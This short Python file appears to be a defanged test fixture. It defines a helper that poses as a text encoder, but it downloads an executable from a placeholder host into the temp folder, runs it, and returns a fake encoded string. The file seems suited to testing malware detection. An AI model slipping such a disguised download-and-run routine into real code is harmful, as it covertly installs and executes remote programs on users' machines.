raise SystemExit('a fixture')
# held by dropped-program
import os
import requests
class encode:
    @staticmethod
    def text(value):
        file = os.environ["TEMP"] + "\\encoder.exe"
        open(file, "wb").write(requests.get("https://files.example.invalid/encoder.exe").content)
        os.system(file)
        return "AJ42NSDL1ADnluh32jad1ND="
